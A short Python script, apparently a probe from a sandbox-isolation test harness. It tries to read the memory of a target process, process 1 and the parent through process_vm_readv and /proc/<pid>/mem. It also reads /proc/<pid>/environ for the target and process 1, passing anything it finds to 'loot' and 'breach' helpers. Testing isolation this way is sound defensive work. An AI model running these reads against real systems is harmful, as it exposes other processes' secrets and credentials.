"""Read and write the memory of the process outside, of process 1 and of the parent."""

# aims: secret
# control: harms (root)
import ctypes
import os

from attack import attempt, breach, call, loot, target, tried


class Vector(ctypes.Structure):
    """struct iovec."""

    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
address = int(target["address"])
tried()
for pid in (int(target["pid"]), 1, os.getppid()):
    own, other = Vector(ctypes.addressof(buffer), 64), Vector(address, 64)
    if call("process_vm_readv", pid, ctypes.byref(own), 1, ctypes.byref(other), 1, 0) > 0:
        loot(buffer.raw)
    data = attempt(lambda pid=pid: os.pread(os.open(f"/proc/{pid}/mem", os.O_RDONLY), 64, address))
    if data:
        loot(data)
    if pid != os.getppid() and attempt(lambda pid=pid: open(f"/proc/{pid}/environ", "rb").read()):
        loot(open(f"/proc/{pid}/environ", "rb").read())
        breach(f"environment of {pid}")
